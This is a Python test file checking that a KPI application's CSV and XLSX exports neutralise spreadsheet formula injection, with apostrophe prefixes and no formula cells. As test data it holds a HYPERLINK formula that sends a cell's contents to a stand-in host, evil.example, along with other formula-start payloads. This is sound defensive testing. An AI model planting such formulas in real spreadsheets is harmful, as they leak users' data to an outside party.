"""Formula injection: every workbook and CSV machikpi writes keeps texts as texts.

An indicator named ``=1+1`` (and a note that is a ``HYPERLINK`` formula) goes
through each writer: the public indicator download (CSV and XLSX), the entry
workbook and the report workbook. The XLSX files are read back from their
XML: no cell may carry a formula element (``<f>``), and the text must be
there as typed. The CSV cell must start with ``'`` (OWASP), so that a
spreadsheet shows it as text.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from machikpi.adapters.spreadsheet_safety import csv_text
from machikpi.samples import SEEDS_DIR
from tests.storage_db import database_url, db

__all__ = ["database_url", "db"]

SEED_STRATEGY = SEEDS_DIR / "003_06b39d270299f45c.txt"
EVIL_NAME = "=1+1"
EVIL_NOTE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def assert_no_formula(data: bytes, *texts: str) -> None:
    """No cell of the workbook ``data`` is a formula, and each of ``texts`` is a text cell."""
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    wb = load_workbook(io.BytesIO(data))  # data_only=False: a formula would read as data type f
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    values = [c.value for c in cells]
    for t in texts:
        assert t in values, t


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-3", "-3"),  # a plain number stays a number
        ("-1,234.5", "-1,234.5"),
        ("△3", "△3"),
        ("1=1", "1=1"),
        (12.5, 12.5),
        (None, None),
    ],
)
def test_csv_text_neutralises_formula_starts(value: Any, expected: Any) -> None:
    assert csv_text(value) == expected


@pytest.mark.db
def test_public_downloads_of_a_formula_named_indicator(db: str) -> None:
    from django.db import transaction
    from django.test import Client

    from machikpi.adapters.services.plans import store_documents
    from machikpi.adapters.storage import models as m
    from machikpi.adapters.storage.actuals import record_actual

    store_documents([SEED_STRATEGY], warn=lambda _m: None)
    ind = m.Indicator.objects.get(name="製造品出荷額等")
    m.Indicator.objects.filter(pk=ind.pk).update(name=EVIL_NAME)
    with transaction.atomic():
        record_actual(ind.series.get().pk, 2024, value=1, raw="=2+2", note=EVIL_NOTE, who="t")
    client = Client()
    resp = client.get(f"/indicators/{ind.pk}/download.xlsx")
    assert resp.status_code == 200
    assert_no_formula(resp.content, EVIL_NAME, "=2+2")
    resp = client.get(f"/indicators/{ind.pk}/download.csv")
    rows = list(csv.reader(io.StringIO(resp.content.decode("utf-8-sig"))))
    names = {r[2] for r in rows[1:]}
    assert names == {"'" + EVIL_NAME}
    assert "'=2+2" in {r[8] for r in rows[1:]}
    assert all(not cell.startswith(("=", "+", "@")) for r in rows for cell in r)


@pytest.mark.db
def test_entry_workbook_of_a_formula_named_indicator(db: str, tmp_path: Path) -> None:
    from django.db import transaction

    from machikpi.adapters.actual_entry import write_template
    from machikpi.adapters.services.plans import store_documents
    from machikpi.adapters.storage import models as m
    from machikpi.adapters.storage.actuals import record_actual, series_info

    store_documents([SEED_STRATEGY], warn=lambda _m: None)
    ind = m.Indicator.objects.get(name="製造品出荷額等")
    m.Indicator.objects.filter(pk=ind.pk).update(name=EVIL_NAME)
    with transaction.atomic():
        record_actual(ind.series.get().pk, 2024, value=1, raw="1", note=EVIL_NOTE, who="t")
    out = tmp_path / "entry.xlsx"
    write_template(series_info(2024), 2024, out)
    assert_no_formula(out.read_bytes(), EVIL_NAME, EVIL_NOTE)


def test_report_workbook_keeps_formula_texts_as_text(tmp_path: Path) -> None:
    from machikpi.adapters.reports.context import build_report
    from machikpi.adapters.reports.xlsx import write_xlsx

    cell = {"raw": "5", "status": "value", "value": 5.0, "year": 2020, "year_type": "fiscal", "bound": None}
    row = {
        "doc": "a.txt", "path": ["=HYPERLINK(\"x\")"], "codes": None, "role": "KPI", "name": EVIL_NAME,
        "group": None, "unit": "人", "cumulative": False, "baseline": cell,
        "targets": [{**cell, "year": 2030, "value": 9.0, "raw": "9"}], "notes": [EVIL_NOTE],
        "evaluation": {"year": 2025, "grade": None, "reason": "=1"},
    }  # fmt: skip
    report = build_report([row], year=2025, rules="r", rules_description="", grade_order=["A"])
    out = tmp_path / "r.xlsx"
    write_xlsx(report, out)
    assert_no_formula(out.read_bytes(), EVIL_NAME)
